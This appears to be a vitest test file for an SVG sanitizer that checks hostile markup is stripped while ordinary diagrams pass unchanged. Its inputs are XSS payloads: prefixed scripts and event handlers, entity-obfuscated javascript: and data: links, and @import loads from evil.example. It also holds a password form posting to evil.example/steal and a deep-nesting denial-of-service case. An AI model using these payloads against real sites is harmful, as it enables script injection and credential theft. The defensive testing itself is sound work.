import { describe, expect, it } from 'vitest';
import { sanitizeSvg } from '../../../src/document/svg.ts';
import { BinderyError } from '../../../src/errors.ts';

const clean = (svg: string) => new TextDecoder().decode(sanitizeSvg(new TextEncoder().encode(svg)));
const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'http://www.w3.org/1999/xlink';
const PNG = 'data:image/png;base64,iVBORw0KGgo=';

/** Everything an attacker could use to run script, leave the image or load something from outside. */
const DANGER = /script|alert|on(load|click|error|begin|focus)|foreignObject|iframe|evil|<form|action=|<(h|html|x|s):|data:text|svg\+xml;|@import|xmlns:(s|h|x|ev|l)=/i;

describe('SVG images whose markup uses namespace prefixes', () => {
  it('lose a script element whatever prefix names the SVG namespace', () => {
    const out = clean(`<svg ${SVG} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script><s:rect width="1" height="1"/></svg>`);
    expect(out).not.toMatch(DANGER);
    expect(out).toContain('<rect width="1" height="1"/>');
  });

  it('lose a prefixed foreignObject and the HTML inside it', () => {
    const out = clean(
      `<svg ${SVG} xmlns:s="http://www.w3.org/2000/svg"><s:foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></s:foreignObject></svg>`,
    );
    expect(out).not.toMatch(DANGER);
  });

  it('lose elements bound to the XHTML namespace by a prefix', () => {
    const out = clean(
      `<svg ${SVG} xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script><h:iframe src="https://evil.example"/><h:a href="https://evil.example">x</h:a></svg>`,
    );
    expect(out).not.toMatch(DANGER);
  });

  it('lose a child that redeclares the default namespace as XHTML, with everything inside it', () => {
    const out = clean(
      `<svg ${SVG}><g xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/steal"><input name="password"/></form><img src="x" onerror="alert(1)"/></g><circle r="2"/></svg>`,
    );
    expect(out).not.toMatch(DANGER);
    expect(out).not.toContain('password');
    expect(out).toContain('<circle r="2"/>');
  });

  it('lose event handlers written with any prefix', () => {
    const out = clean(
      `<svg ${SVG} xmlns:s="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events" xmlns:x="${XLINK}"><rect s:onclick="alert(1)" x:onload="alert(2)" ev:event="click" ev:handler="#h" width="1"/></svg>`,
    );
    expect(out).not.toMatch(DANGER);
    expect(out).not.toContain('ev:');
    expect(out).toContain('<rect width="1"/>');
  });

  it('lose a javascript: link written with any prefix bound to XLink, and keep an internal one under the canonical prefix', () => {
    const out = clean(
      `<svg ${SVG} xmlns:x="${XLINK}" xmlns:l="${XLINK}"><a x:href="javascript:alert(1)"><text>bad</text></a><a l:href="#top"><text>good</text></a></svg>`,
    );
    expect(out).not.toMatch(DANGER);
    expect(out).toContain('<a xlink:href="#top">');
    expect(out).toMatch(/^<\?xml[^>]*>\n<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg" xmlns:xlink="http:\/\/www\.w3\.org\/1999\/xlink">/);
  });

  it('refuse javascript: and data: links hidden by entities, whitespace and case', () => {
    const out = clean(
      `<svg ${SVG} xmlns:xlink="${XLINK}">
        <a href="&#106;avascript:alert(1)"><text>1</text></a>
        <a href=" JaVa&#x09;ScRiPt:alert(2)"><text>2</text></a>
        <a xlink:href="&#x6A;&#x61;vascript&#58;alert(3)"><text>3</text></a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg=="><text>4</text></a>
        <image href="DATA:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" width="1" height="1"/>
        <image href="&#100;ata:text/html,x" width="1" height="1"/>
      </svg>`,
    );
    expect(out).not.toMatch(DANGER);
    expect(out).not.toMatch(/href/);
  });

  it('refuse outside URLs in any attribute a lenient reader might follow', () => {
    const out = clean(`<svg ${SVG}><a HREF="javascript:alert(1)" ping="https://evil.example/track" href="#ok"><text>t</text></a><image SRC="https://evil.example/p.png"/></svg>`);
    expect(out).not.toMatch(DANGER);
    expect(out).toContain('<a href="#ok">');
  });

  it('keep embedded raster images, but let <use> point only inside the image', () => {
    const out = clean(
      `<svg ${SVG} xmlns:xlink="${XLINK}"><defs><path id="p" d="M0 0h1"/></defs><use href="#p"/><use xlink:href="#p"/><use href="https://evil.example/sprite.svg#p"/><use href="other.svg#p"/><use href="${PNG}"/><image href="${PNG}" width="1" height="1"/></svg>`,
    );
    expect(out).not.toMatch(DANGER);
    expect(out).toContain('<use href="#p"/><use xlink:href="#p"/><use/><use/><use/>');
    expect(out).toContain(`<image href="${PNG}" width="1" height="1"/>`);
  });

  it('drop a style sheet that imports or loads from outside, however it is spelled', () => {
    const sheets = [
      '<style>@import url(https://evil.example/a.css);</style>',
      '<style><![CDATA[@import "https://evil.example/b.css";]]></style>',
      '<style>@\\69mport "https://evil.example/c.css";</style>',
      '<style>@&#105;mport "https://evil.example/d.css";</style>',
      '<style>rect { fill: url(javascript:alert(1)) }</style>',
      '<style>rect { background: u\\72l(https://evil.example/e.png) }</style>',
    ];
    for (const sheet of sheets) {
      const out = clean(`<svg ${SVG}>${sheet}<rect class="a" width="1"/></svg>`);
      expect(out, sheet).not.toMatch(DANGER);
      expect(out, sheet).not.toContain('<style');
      expect(out, sheet).toContain('<rect class="a" width="1"/>');
    }
  });

  it('drop style and presentation attributes that load from outside, entities decoded', () => {
    const out = clean(
      `<svg ${SVG}><rect style="fill:url&#40;https://evil.example/x)" width="1"/><rect fill="u\\72l(https://evil.example/y)" height="1"/><rect cursor="url(https://evil.example/z.cur)" x="1"/></svg>`,
    );
    expect(out).not.toMatch(DANGER);
    expect(out).toContain('<rect width="1"/><rect height="1"/><rect x="1"/>');
  });

  it('lose processing instructions anywhere, so no style sheet or XSLT is pulled in', () => {
    const out = clean(`<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svg ${SVG}><g><?xml-stylesheet href="https://evil.example/y.css"?><rect width="1"/></g></svg>`);
    expect(out).not.toMatch(DANGER);
  });

  it('come out with the SVG namespace even when the root uses a prefix', () => {
    const out = clean(`<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><s:g><s:rect width="1" height="1"/></s:g></s:svg>`);
    expect(out).toBe(`<?xml version="1.0" encoding="UTF-8"?>\n<svg ${SVG} viewBox="0 0 2 2"><g><rect width="1" height="1"/></g></svg>\n`);
  });

  it('come out well-formed when the input uses entities only a DTD could define', () => {
    const out = clean(`<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg ${SVG}><text>&x; &nbsp; &lt;ok&gt; &#x4E2D;</text></svg>`);
    expect(out).not.toMatch(DANGER);
    expect(out).toContain('<text>&amp;x; &amp;nbsp; &lt;ok> 中</text>');
  });
});

describe('ordinary SVG diagrams', () => {
  it('come through unchanged: shapes without fill, gradients, markers, text, classes and internal references', () => {
    const diagram = [
      `<svg ${SVG} xmlns:xlink="${XLINK}" width="320" height="120" viewBox="0 0 320 120" role="img" aria-labelledby="t">`,
      '<title id="t">流程圖</title>',
      '<desc>Two boxes joined by an arrow</desc>',
      '<style>.box { stroke: #333; stroke-width: 2 } .label { font: 14px sans-serif } text > tspan { fill: #555 }</style>',
      '<defs>',
      '<linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#ddd"/></linearGradient>',
      '<marker id="arrow" viewBox="0 0 10 10" refX="5" refY="5" markerWidth="6" markerHeight="6" orient="auto-start-reverse"><path d="M 0 0 L 10 5 L 0 10 z"/></marker>',
      '<clipPath id="c"><rect width="320" height="120"/></clipPath>',
      '</defs>',
      '<g clip-path="url(#c)" transform="translate(10 10)">',
      '<rect class="box" width="100" height="60" fill="url(#g)"/>',
      '<rect class="box" x="180" width="100" height="60" style="fill: url(\'#g\')"/>',
      '<line x1="100" y1="30" x2="180" y2="30" stroke="black" marker-end="url(#arrow)"/>',
      '<path d="M10 80 Q 150 120 290 80" stroke="#c33" stroke-dasharray="4 2"/>',
      '<circle cx="50" cy="100" r="5"/>',
      '<text class="label" x="50" y="35" text-anchor="middle" xml:space="preserve">草稿 <tspan font-weight="bold">&amp; 審稿</tspan></text>',
      '<a xlink:href="#t"><text x="230" y="35" text-anchor="middle">Publish</text></a>',
      '<use href="#arrow" x="5"/>',
      '</g>',
      '</svg>',
    ].join('\n');
    expect(clean(diagram)).toBe(`<?xml version="1.0" encoding="UTF-8"?>\n${diagram}\n`);
  });

  it('get the SVG namespace when the file forgot to declare it', () => {
    expect(clean('<svg width="2" height="2"><rect width="1" height="1"/></svg>')).toBe(
      `<?xml version="1.0" encoding="UTF-8"?>\n<svg ${SVG} width="2" height="2"><rect width="1" height="1"/></svg>\n`,
    );
  });
});

describe('SVG images built to exhaust the cleaner', () => {
  it('keep a drawing nested 200 deep whole', () => {
    // The root, and 199 groups and the rectangle under it: 200 levels, as many as the cleaner ever kept.
    const depth = 199;
    const out = clean(`<svg ${SVG}>${'<g>'.repeat(depth)}<rect width="1"/>${'</g>'.repeat(depth)}</svg>`);
    expect(out).toContain(`${'<g>'.repeat(depth)}<rect width="1"/>`);
  });

  it('are refused past 200 deep, naming the file and line, instead of dropping what is deeper', () => {
    // 400,000 groups (2.8 MB) took 46 s to parse before: the parser's open elements are an array it unshifts.
    const depth = 400_000;
    const svg = `<svg ${SVG}>\n<rect width="1"/>\n${'<g>'.repeat(depth)}<script>alert(1)</script>${'</g>'.repeat(depth)}</svg>`;
    let error: unknown;
    try {
      sanitizeSvg(new TextEncoder().encode(svg), 'images/deep.svg');
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(BinderyError);
    expect((error as BinderyError).toJSON()).toMatchObject({
      code: 'invalid-image',
      file: 'images/deep.svg',
      line: 3,
      message: 'the SVG nests elements more than 200 deep; no drawing needs more than 200',
    });
  });

  it('give the same bytes when cleaned twice, so stored covers keep their content address', () => {
    const once = sanitizeSvg(new TextEncoder().encode(`<svg ${SVG} xmlns:l="${XLINK}"><style><![CDATA[.a{fill:red}]]></style><a l:href="#x"><text>a &amp; b</text></a></svg>`));
    expect(sanitizeSvg(once)).toEqual(once);
  });
});
